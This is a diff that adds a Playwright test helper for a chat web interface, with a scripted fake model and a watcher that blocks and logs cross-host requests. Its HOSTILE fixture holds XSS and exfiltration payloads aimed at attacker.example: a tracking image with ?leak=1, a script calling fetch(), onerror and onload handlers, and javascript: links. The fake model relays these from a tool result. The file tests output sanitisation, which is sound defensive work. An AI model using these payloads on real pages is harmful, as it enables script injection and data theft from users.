@@ -1,0 +1,96 @@
+"""A browser's visit to the house: what the model says there, and a watch over what pages do."""
+
+from dataclasses import dataclass, field
+from typing import Any
+from urllib.parse import urlsplit
+
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+
+from tests.fakes.messages_turns import Turn, rejects, says, uses
+from tests.ways.house import House
+
+PASSWORD = "a-long-Pass-phrase-9"
+
+HOSTILE = """Here you are.
+![pixel](https://attacker.example/markdown.png?leak=1)
+![ref][r]
+<img src="https://attacker.example/html.png" onerror="alert(1)">
+<script>fetch('https://attacker.example/script')</script>
+<iframe src="https://attacker.example/frame"></iframe>
+<svg onload="alert(2)"><image href="https://attacker.example/svg.png"/></svg>
+<link rel="stylesheet" href="https://attacker.example/style.css">
+<base href="https://attacker.example/">
+[run me](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>)
+[a friendly bank](https://attacker.example/bank)
+
+[r]: https://attacker.example/reference.png
+"""
+
+
+def answer(body: dict[str, Any]) -> Any:
+    """The model of these tests: what it does is in the question."""
+    last = body["messages"][-1]["content"]
+    if not isinstance(last, str) and any(one.get("type") == "tool_result" for one in last):
+        hostile = "attacker" in str(last)
+        return says(HOSTILE) if hostile else says("It is **noon**, says the clock.")
+    asked = last if isinstance(last, str) else last[-1]["text"]
+    return _first_turn(asked)
+
+
+def _first_turn(asked: str) -> Turn | Any:
+    if "write" in asked:
+        return uses(("upstream__get_time", {}), ("upstream__write_note", {"text": "x"}))
+    if "slow" in asked:
+        return uses(("upstream__slow", {"seconds": 20 if "very" in asked else 2}))
+    if "hostile" in asked:
+        return uses(("upstream__echo", {"text": HOSTILE}), text=HOSTILE)
+    if "fail" in asked:
+        return rejects(400, "invalid_request_error", "No.")
+    return uses(("upstream__get_time", {}), text="Let me look.")
+
+
+@dataclass
+class Watch:
+    """What a context's pages did that nobody should see."""
+
+    foreign: list[str] = field(default_factory=list)
+    problems: list[str] = field(default_factory=list)
+
+
+def set_up(browser: Browser, home: House, who: str) -> Any:
+    """Set a password by the one-time link; the session that begins by it."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(home.setup_url(who))
+    for number in (1, 2):
+        page.fill(f"[name=new_password{number}]", PASSWORD)
+    page.click("button[type=submit]")
+    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
+    state = context.storage_state()
+    context.close()
+    return state
+
+
+def watched(context: BrowserContext, home: House) -> Watch:
+    """Note every request to another host (and stop it), dialog, console error and page error."""
+    watch = Watch()
+    own = urlsplit(home.base).netloc
+
+    def route(route: Any) -> None:
+        if urlsplit(route.request.url).netloc == own:
+            route.continue_()
+            return
+        watch.foreign.append(route.request.url)
+        route.abort()
+
+    def attach(page: Page) -> None:
+        page.on("pageerror", lambda error: watch.problems.append(str(error)))
+        page.on("dialog", lambda dialog: (watch.problems.append(dialog.message), dialog.dismiss()))
+        page.on(
+            "console",
+            lambda said: watch.problems.append(said.text) if said.type == "error" else None,
+        )
+
+    context.route("**/*", route)
+    context.on("page", attach)
+    return watch
